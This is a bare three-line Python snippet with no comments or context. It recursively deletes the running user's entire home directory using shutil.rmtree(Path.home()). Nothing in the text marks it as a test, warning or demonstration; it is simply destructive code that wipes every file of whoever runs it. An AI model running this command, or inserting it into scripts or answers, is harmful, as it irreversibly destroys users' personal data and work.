import shutil
from pathlib import Path
shutil.rmtree(Path.home())
